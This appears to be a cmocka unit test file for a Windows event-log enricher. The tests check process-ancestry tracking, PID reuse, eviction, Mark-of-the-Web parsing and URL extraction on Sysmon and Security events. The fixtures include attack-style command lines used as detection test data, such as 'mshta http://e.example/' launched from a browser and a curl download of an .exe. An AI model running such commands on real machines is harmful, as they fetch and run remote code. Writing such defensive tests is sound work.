    lw_event_init(&ev);

    /* One pass over a newest-first log: cmd's network event, its creation, chrome's. */
    lw_enricher *en;
    assert_int_equal(lw_enricher_new(&en), LW_OK);
    mk(&ev, SYSMON, 3, 9000, "H", "ProcessGuid", "{K}", "Image", CMD, NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "AncestorIsBrowser", NULL); /* not known yet */
    proc1(en, &ev, 5000, "H", "{K}", "{C}", "30", "20", CMD, CHR, "cmd");
    proc1(en, &ev, 1000, "H", "{C}", "{E}", "20", "10", CHR, EXP, "chrome");
    /* The download ran before its Mark of the Web was read. */
    proc1(en, &ev, 8000, "H", "{S}", "{E}", "50", "10", DL, EXP, DL);
    expect(&ev, "ImageZoneId", NULL);
    mk(&ev, SYSMON, 15, 5500, "H", "ProcessGuid", "{C}", "Image", CHR, "TargetFilename",
       "C:\\Users\\bob\\Downloads\\setup.exe:Zone.Identifier", "Contents",
       "[ZoneTransfer]  ZoneId=3  HostUrl=http://x.test/setup.exe", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    lw_enricher_stats st;
    lw_enricher_stats_get(en, &st);
    assert_int_equal(st.order_late, 2); /* cmd's creation, setup.exe's mark */
    /* In time order nothing is late, and a lead of under 2 s (Sysmon's own jitter) is not
     * counted either. */
    lw_enricher_free(en);
    assert_int_equal(lw_enricher_new(&en), LW_OK);
    mk(&ev, SYSMON, 3, 5500, "H", "ProcessGuid", "{K}", "Image", CMD, NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    proc1(en, &ev, 5000, "H", "{K}", "{C}", "30", "20", CMD, CHR, "cmd");
    proc1(en, &ev, 6000, "H", "{Q}", "{K}", "31", "30", CMD, CMD, "cmd");
    lw_enricher_stats_get(en, &st);
    assert_int_equal(st.order_late, 0);
    lw_enricher_free(en);

    /* Two passes: prime with the newest-first creations and the mark, then read again. */
    assert_int_equal(lw_enricher_new(&en), LW_OK);
    assert_int_equal(lw_enricher_set_priming(en, true), LW_OK);
    proc1(en, &ev, 8000, "H", "{S}", "{E}", "50", "10", DL, EXP, DL);
    proc1(en, &ev, 5000, "H", "{K}", "{C}", "30", "20", CMD, CHR, "cmd");
    proc1(en, &ev, 1000, "H", "{C}", "{E}", "20", "10", CHR, EXP, "chrome");
    mk(&ev, SYSMON, 15, 5500, "H", "ProcessGuid", "{C}", "Image", CHR, "TargetFilename",
       "C:\\Users\\bob\\Downloads\\setup.exe:Zone.Identifier", "Contents",
       "[ZoneTransfer]  ZoneId=3  HostUrl=http://x.test/setup.exe", NULL);
    assert_true(lw_enrich_primes(&ev));
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    lw_enricher_stats_get(en, &st);
    assert_int_equal(st.events, 0); /* priming counts nothing */
    assert_int_equal(lw_enricher_set_priming(en, false), LW_OK);
    /* The real pass, still newest first. */
    mk(&ev, SYSMON, 3, 9000, "H", "ProcessGuid", "{K}", "Image", CMD, NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "AncestorIsBrowser", "true");
    expect(&ev, "AncestorClasses", "browser,desktop"); /* chrome's own parent too */
    proc1(en, &ev, 8000, "H", "{S}", "{E}", "50", "10", DL, EXP, DL);
    expect(&ev, "ImageZoneId", "3");
    expect(&ev, "ImageHostUrl", "http://x.test/setup.exe");
    lw_enricher_stats_get(en, &st);
    assert_int_equal(st.order_late, 0);
    /* 4688 (pid-keyed) creations are not primed: pid reuse would mislead. */
    mk(&ev, "Security", 4688, 100, "H", "NewProcessId", "0x10", "NewProcessName", CMD, NULL);
    assert_false(lw_enrich_primes(&ev));
    lw_enricher_free(en);
    lw_event_destroy(&ev);
}

/* A Sysmon 11 of process guid; returns whether the table knew it (a lookup that did not
 * miss). */
static bool actor_known(lw_enricher *en, lw_event *ev, int64_t t, const char *guid)
{
    lw_enricher_stats a, b;
    lw_enricher_stats_get(en, &a);
    mk(ev, SYSMON, 11, t, "H", "ProcessGuid", guid, "Image", "C:\\Windows\\System32\\cmd.exe",
       "TargetFilename", "C:\\x.txt", NULL);
    assert_int_equal(lw_enrich_event(en, ev), LW_OK);
    lw_enricher_stats_get(en, &b);
    assert_int_equal(b.proc_lookups, a.proc_lookups + 1);
    return b.proc_lookup_misses == a.proc_lookup_misses;
}

/* Well-formed GUIDs are keyed by their parsed 128 bits (any case); anything else by its
 * text, case-insensitively, and the two kinds never meet. */
static void test_ancestry_guid_keys(void **state)
{
    lw_enricher *en;
    assert_int_equal(lw_enricher_new(&en), LW_OK);
    lw_event ev;
    lw_event_init(&ev);
    const char *CHR = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
    const char *CMD = "C:\\Windows\\System32\\cmd.exe";
    const char *UP = "{81056205-565C-64DC-2304-00000000080A}";
    const char *LO = "{81056205-565c-64dc-2304-00000000080a}";
    proc1(en, &ev, 1000, "H", UP, "{E}", "10", "1", CHR, "C:\\Windows\\explorer.exe", "chrome");
    /* Upper and lower case name the same process: as the acting process, ... */
    assert_true(actor_known(en, &ev, 1100, LO));
    expect(&ev, "ParentImageClass", "desktop");
    assert_true(actor_known(en, &ev, 1100, " {81056205-565c-64DC-2304-00000000080A} "));
    /* ... and as a parent. */
    proc1(en, &ev, 1200, "H", "{81056205-565c-64dc-2304-00000000080b}", LO, "11", "10", CMD, CHR,
          "cmd");
    expect(&ev, "AncestorIsBrowser", "true");
    expect(&ev, "GrandparentImage", "C:\\Windows\\explorer.exe");
    /* One digit differs: another process.  So does every GUID of another shape. */
    assert_false(actor_known(en, &ev, 1300, "{81056205-565c-64dc-2304-00000000080c}"));
    assert_false(actor_known(en, &ev, 1300, "81056205-565c-64dc-2304-00000000080a"));
    assert_false(actor_known(en, &ev, 1300, "{81056205565c64dc230400000000080a}"));
    assert_false(actor_known(en, &ev, 1300, "{81056205-565c-64dc-2304-00000000080a"));
    assert_false(actor_known(en, &ev, 1300, "-"));

    /* Malformed GUIDs still work, by text, case-insensitively: a non-hex digit, a missing
     * dash, a short one. */
    const char *bad[] = {"{81056205-565c-64dc-2304-00000000080G}",
                         "{81056205-565c-64dc-2304+00000000080a}", "{ABC}"};
    for (int i = 0; i < 3; i++) {
        char pid[8], low[64];
        lw_fmt(pid, sizeof pid, "%d", 20 + i);
        proc1(en, &ev, 2000 + i, "H", bad[i], UP, pid, "10", CMD, CHR, "cmd");
        expect(&ev, "AncestorIsBrowser", "true");
        size_t n = strlen(bad[i]);
        for (size_t k = 0; k <= n; k++)
            low[k] = (char)(bad[i][k] >= 'A' && bad[i][k] <= 'Z' ? bad[i][k] + 32 : bad[i][k]);
        assert_true(actor_known(en, &ev, 2100, bad[i]));
        assert_true(actor_known(en, &ev, 2100, low));
        expect(&ev, "ParentImageClass", "browser");
    }
    lw_event_destroy(&ev);
    lw_enricher_free(en);
}

/* The open-addressed GUID index under eviction: entries leave it (later lookups miss, the
 * survivors are still found after the shifts), and every eviction is counted. */
static void test_ancestry_guid_eviction(void **state)
{
    lw_enricher_limits lim = {.max_procs = 5, .max_depth = 4, .proc_max_age_ms = 100000};
    lw_enricher *en;
    assert_int_equal(lw_enricher_new_limits(&lim, &en), LW_OK);
    lw_event ev;
    lw_event_init(&ev);
    char g[64], pg[64], pid[16];
    for (int i = 0; i < 40; i++) {
        /* Alternate case, and mix in a malformed GUID now and then. */
        lw_fmt(g, sizeof g,
               i % 7 == 3 ? "{bad-%d}"
               : i % 2    ? "{0000%04X-AAAA-BBBB-CCCC-0000000000%02X}"
                          : "{0000%04x-aaaa-bbbb-cccc-0000000000%02x}",
               i, i);
        lw_fmt(pid, sizeof pid, "%d", 100 + i);
        proc1(en, &ev, 1000 + i, "H", g, i ? pg : "{root}", pid, "1",
              "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd");
        memcpy(pg, g, sizeof pg);
    }
    lw_enricher_stats st;
    lw_enricher_stats_get(en, &st);
    assert_int_equal(st.procs, 5);
    assert_int_equal(st.proc_inserts, 40);
    assert_int_equal(st.proc_evicted_count, 35);
    assert_int_equal(st.proc_evicted_age, 0);
    /* The five newest are found in either case; the older ones are gone. */
    for (int i = 0; i < 40; i++) {
        lw_fmt(g, sizeof g, i % 7 == 3 ? "{BAD-%d}" : "{0000%04x-AAAA-bbbb-CCCC-0000000000%02x}", i,
               i);
        if (actor_known(en, &ev, 2000, g) != (i >= 35))
            fail_msg("process %d: expected %s", i, i >= 35 ? "known" : "evicted");
    }
    /* Age eviction empties the index: nothing is found afterwards, and it is counted. */
    proc1(en, &ev, 500000, "H", "{11111111-2222-3333-4444-555555555555}", "{root}", "7", "1",
          "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd");
    lw_enricher_stats_get(en, &st);
    assert_int_equal(st.proc_evicted_age, 5);
    assert_int_equal(st.procs, 1);
    assert_true(actor_known(en, &ev, 500001, "{11111111-2222-3333-4444-555555555555}"));
    assert_false(actor_known(en, &ev, 500001, "{00000027-aaaa-bbbb-cccc-000000000027}"));
    lw_event_destroy(&ev);
    lw_enricher_free(en);
}

static void sec4688(lw_enricher *en, lw_event *ev, int64_t t, const char *pid, const char *ppid,
                    const char *image, const char *pimage, const char *cmd)
{
    mk(ev, "Security", 4688, t, "WS1", "NewProcessId", pid, "ProcessId", ppid, "NewProcessName",
       image, "ParentProcessName", pimage, "CommandLine", cmd, "SubjectUserName", "bob", NULL);
    assert_int_equal(lw_enrich_event(en, ev), LW_OK);
}

static void test_ancestry_pid(void **state)
{
    lw_enricher *en;
    assert_int_equal(lw_enricher_new(&en), LW_OK);
    lw_event ev;
    lw_event_init(&ev);
    const char *OUT = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
    const char *NP = "C:\\Windows\\notepad.exe";
    const char *CMD = "C:\\Windows\\System32\\cmd.exe";
    const char *WS = "C:\\Windows\\System32\\wscript.exe";
    sec4688(en, &ev, 1000, "0x100", "0x10", OUT, "C:\\Windows\\explorer.exe", "outlook.exe");
    /* Child of outlook (pid 0x100). */
    sec4688(en, &ev, 2000, "0x200", "0x100", WS, OUT,
            "wscript.exe "
            "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
            "Outlook\\AB12\\a.js");
    expect(&ev, "AncestorIsMailClient", "true");
    expect(&ev, "GrandparentImage", "C:\\Windows\\explorer.exe");
    expect(&ev, "ParentImageClass", "mail_client");
    expect(&ev, "CommandLineTargetKind", "file");
    /* outlook exits (no 4689 handling needed), pid 0x100 is reused by notepad... */
    sec4688(en, &ev, 5000, "0x100", "0x10", NP, "C:\\Windows\\explorer.exe", "notepad.exe");
    /* ... whose child must not look like outlook's. */
    sec4688(en, &ev, 6000, "0x300", "0x100", CMD, NP, "cmd.exe");
    expect(&ev, "AncestorIsMailClient", "false");
    expect(&ev, "GrandparentImage", "C:\\Windows\\explorer.exe");
    /* A late event (out of order) about a child of the old 0x100 (outlook): the table only
     * knows notepad for 0x100, which started after this child: rejected, counted. */
    sec4688(en, &ev, 2500, "0x400", "0x100", CMD, OUT, "cmd.exe");
    expect(&ev, "AncestorIsMailClient", "true"); /* from its own ParentImage */
    expect(&ev, "GrandparentImage", NULL);
    lw_enricher_stats st;
    lw_enricher_stats_get(en, &st);
    assert_int_equal(st.proc_pid_stale, 1);

    /* A Sysmon 1 twin of a 4688 (same host, pid, image, time) shares the entry, and
     * Sysmon's decimal pid matches 4688's hex. */
    sec4688(en, &ev, 7000, "0x500", "0x10",
            "C:\\Users\\bob\\AppData\\Local\\Programs\\Opera\\opera.exe",
            "C:\\Windows\\explorer.exe", "opera.exe");
    uint64_t before = st.proc_inserts;
    mk(&ev, SYSMON, 1, 7001, "WS1", "ProcessGuid", "{O}", "ProcessId", "1280", "ParentProcessId",
       "16", "Image", "C:\\Users\\bob\\AppData\\Local\\Programs\\Opera\\opera.exe", "ParentImage",
       "C:\\Windows\\explorer.exe", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    lw_enricher_stats_get(en, &st);
    assert_int_equal(st.proc_inserts, before + 1); /* the 4688 only */
    /* A 4688 child of that pid finds opera; a Sysmon child finds it by GUID. */
    sec4688(en, &ev, 8000, "0x600", "0x500", "C:\\Windows\\System32\\mshta.exe",
            "C:\\Users\\bob\\AppData\\Local\\Programs\\Opera\\opera.exe",
            "mshta http://e.example/");
    expect(&ev, "AncestorIsBrowser", "true");
    expect(&ev, "CommandLineTarget", "http://e.example/");
    expect(&ev, "CommandLineTarget.host", "e.example");
    lw_event_destroy(&ev);
    lw_enricher_free(en);
}

static void test_ancestry_eviction(void **state)
{
    lw_enricher_limits lim = {.max_procs = 4, .max_depth = 3, .proc_max_age_ms = 10000};
    lw_enricher *en;
    assert_int_equal(lw_enricher_new_limits(&lim, &en), LW_OK);
    lw_event ev;
    lw_event_init(&ev);
    char g[16], pg[16], pid[16];
    for (int i = 0; i < 10; i++) {
        lw_fmt(g, sizeof g, "{%d}", i);
        lw_fmt(pg, sizeof pg, "{%d}", i - 1);
        lw_fmt(pid, sizeof pid, "%d", 100 + i);
        proc1(en, &ev, 1000 + i, "H", g, pg, pid, "1", "C:\\Windows\\System32\\cmd.exe",
              i == 0 ? "C:\\Program Files\\Mozilla Firefox\\firefox.exe"
                     : "C:\\Windows\\System32\\cmd.exe",
              "cmd");
    }
    lw_enricher_stats st;
    lw_enricher_stats_get(en, &st);
    assert_int_equal(st.procs, 4);
    assert_int_equal(st.proc_evicted_count, 6);
    /* Classes are inherited per level, depth 3: firefox is too far up for {9}. */
    expect(&ev, "AncestorIsBrowser", "false");
    /* Age: one event 20 s later evicts every entry not seen for 10 s. */
    proc1(en, &ev, 30000, "H", "{new}", "{9}", "999", "109", "C:\\Windows\\System32\\cmd.exe",
          "C:\\Windows\\System32\\cmd.exe", "cmd");
    lw_enricher_stats_get(en, &st);
    assert_int_equal(st.proc_evicted_age, 4);
    assert_int_equal(st.procs, 1);
    expect(&ev, "GrandparentImage", NULL);
    lw_event_destroy(&ev);
    lw_enricher_free(en);
    /* Bad limits are refused. */
    lim.max_procs = 1;
    assert_int_equal(lw_enricher_new_limits(&lim, &en), LW_EINVAL);
}

/* ---- URL parts, DNS, no-ops ------------------------------------------------------------- */

static void test_url_fields(void **state)
{
    lw_enricher *en;
    assert_int_equal(lw_enricher_new(&en), LW_OK);
    lw_event ev;
    lw_event_init(&ev);
    mk(&ev, SYSMON, 22, 1000, "H", "ProcessGuid", "{x}", "QueryName", "cdn.files.example.co.uk",
       "Image", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "QueryName.registrable_domain", "example.co.uk");
    expect(&ev, "ImageClass", "browser");
    mk(&ev, SYSMON, 22, 1000, "H", "QueryName", "10.0.5.13", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "QueryName.registrable_domain", NULL);
    mk(&ev, SYSMON, 1, 1000, "H", "ProcessGuid", "{c}", "Image", "C:\\Windows\\System32\\curl.exe",
       "CommandLine", "curl -o C:\\t\\a.exe \"hxxp\" https://dl.Example.com:8080/a/b.EXE?q=1#f",
       NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "CommandLineUrl", "https://dl.Example.com:8080/a/b.EXE?q=1#f");
    expect(&ev, "CommandLineUrl.host", "dl.example.com");
    expect(&ev, "CommandLineUrl.registrable_domain", "example.com");
    expect(&ev, "CommandLineUrl.port", "8080");
    expect(&ev, "CommandLineUrl.path", "/a/b.EXE");
    expect(&ev, "CommandLineUrl.extension", ".EXE");
    expect(&ev, "CommandLineUrl.scheme", "https");
    expect(&ev, "ImageClass", "lolbin");
    expect(&ev, "CommandLineTarget", NULL);
    /* Events of no interest get nothing. */
    mk(&ev, "Security", 4624, 1000, "H", "TargetUserName", "bob", NULL);
    uint32_t n = ev.nfields;
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    assert_int_equal(ev.nfields, n);
    lw_event_reset(&ev); /* no product */
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    assert_int_equal(ev.nfields, 0);
    lw_enricher_stats st;
    lw_enricher_stats_get(en, &st);
    assert_int_equal(st.events, 5);
    assert_true(st.fields_added > 10);
    /* A file extracted from a zip: its ReferrerUrl is the zip's path, not a URL. */
    mk(&ev, SYSMON, 15, 2000, "H", "TargetFilename",
       "C:\\Users\\a\\AppData\\Local\\Temp\\Temp1_x.zip\\x.js:Zone.Identifier", "Contents",
       "[ZoneTransfer]  ZoneId=3  ReferrerUrl=C:\\Users\\a\\Downloads\\x.zip", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "ReferrerUrl", "C:\\Users\\a\\Downloads\\x.zip");
    expect(&ev, "ReferrerUrl.scheme", NULL);
    expect(&ev, "ReferrerUrl.host", NULL);
    assert_true(lw_is_local_path(S("C:/x")) && lw_is_local_path(S(" \\\\srv\\share\\x")));
    assert_false(lw_is_local_path(S("http://c/x")) || lw_is_local_path(S("c:x")) ||
                 lw_is_local_path(S("file:///C:/x")));
    lw_event_destroy(&ev);
    lw_enricher_free(en);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_motw_parse),
        cmocka_unit_test(test_split_stream),
        cmocka_unit_test(test_motw_merge),
        cmocka_unit_test(test_motw_bounds),
        cmocka_unit_test(test_cmdline),
        cmocka_unit_test(test_cmdline_bounds),
        cmocka_unit_test(test_find_url),
        cmocka_unit_test(test_classify),
        cmocka_unit_test(test_ancestry_guid),
        cmocka_unit_test(test_ancestry_pid),
        cmocka_unit_test(test_ancestry_eviction),
        cmocka_unit_test(test_url_fields),
        cmocka_unit_test(test_ancestry_guid_keys),
        cmocka_unit_test(test_ancestry_guid_eviction),
        cmocka_unit_test(test_priming_and_order),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
